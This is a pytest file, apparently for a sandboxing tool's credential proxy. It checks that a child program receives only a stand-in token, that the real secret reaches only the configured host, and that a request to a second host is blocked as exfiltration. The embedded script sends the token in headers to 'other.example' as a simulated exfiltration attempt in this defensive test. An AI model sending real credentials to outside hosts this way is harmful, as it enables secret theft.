"""A real run: the command has a stand-in only, its own host gets the secret, no other host does."""

from __future__ import annotations

import json
from http.server import BaseHTTPRequestHandler
from typing import TYPE_CHECKING

import pytest
from harness import SYSTEM_PYTHON, landlock_isolation, serving
from own_ca import write_authority
from tls_origin import signed_origin

if TYPE_CHECKING:
    from tls_origin import TlsOrigin

SECRET = "ghp_0123456789abcdefghijABCDEFGHIJ456789"
OWN, OTHER = "api.example", "other.example"
ISOLATIONS = ["namespace", pytest.param("landlock", marks=landlock_isolation)]

# Sends its variable to each URL, and tells the status and text of each answer.
ASK = """
import json, os, sys, urllib.request, urllib.error
told = []
for url in sys.argv[1:]:
    fields = {"Authorization": "Bearer " + os.environ["MY_KEY"], "X-Odd": os.environ["MY_KEY"]}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=fields)) as answer:
            told.append([answer.status, answer.read().decode()])
    except urllib.error.HTTPError as error:
        told.append([error.code, error.read().decode()])
json.dump([told, os.environ["MY_KEY"]], sys.stdout)
"""


class _Tells(BaseHTTPRequestHandler):
    """Answers with the key that it got, backwards: the answer is not searched for the secret."""

    server: TlsOrigin

    def do_GET(self) -> None:
        self.server.seen.append(self.path)
        scheme, _, key = self.headers["Authorization"].partition(" ")
        text = f"{scheme} {key[::-1]}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.mark.parametrize("isolation", ISOLATIONS)
def test_the_own_host_gets_the_secret_and_another_one_is_a_denied_attempt(
    isolation, sessions, tmp_path
) -> None:
    own = write_authority(tmp_path)
    origins = {name: signed_origin(*own, name) for name in (OWN, OTHER)}
    origins[OWN].RequestHandlerClass = _Tells
    where = {name: f"{name}:{origin.port}" for name, origin in origins.items()}
    sessions.variables["MY_KEY"] = SECRET

    def run(*options: str):
        resolved = [word for one in where.values() for word in ("--resolve", f"{one}:127.0.0.1")]
        return sessions.run(
            "--isolation", isolation, "--upstream-ca", str(own[0]), *resolved, *options,
            "--credential", f"mine=env://MY_KEY@{where[OWN]}", "--", SYSTEM_PYTHON, "-c", ASK,
            f"https://{where[OWN]}/own", f"https://{where[OTHER]}/other",
        )  # fmt: skip

    with serving(origins[OWN]), serving(origins[OTHER]):
        done = run("--allow-domain", where[OTHER], "--intercept", OTHER, "--fail-on-deny")
        assert done.stdout, done.stderr
        told, stand_in = json.loads(done.stdout)
        assert stand_in != SECRET
        assert stand_in.startswith("ghp_")
        assert told[0] == [200, "Bearer " + SECRET[::-1]]  # as the origin has it, backwards
        assert told[1][0] == 403
        assert "exfiltration detected" in told[1][1]
        assert done.returncode != 0
        assert "exfiltration detected" in done.stderr
        assert "'x-odd'" in done.stderr
        assert origins[OTHER].seen == []
        records = json.dumps(sessions.records())
        assert '"route_id": "mine"' in records
        assert '"managed_credential_active": true' in records
        for text in (records, done.stderr):
            assert SECRET not in text
            assert stand_in not in text
        assert sessions.call("audit", "verify", "latest").returncode == 0
        shown = sessions.call("audit", "show", "latest").stdout
        assert "exfiltration detected: the head of the request" in shown
        learned = sessions.call("audit", "learn", "latest").stdout
        assert stand_in not in learned
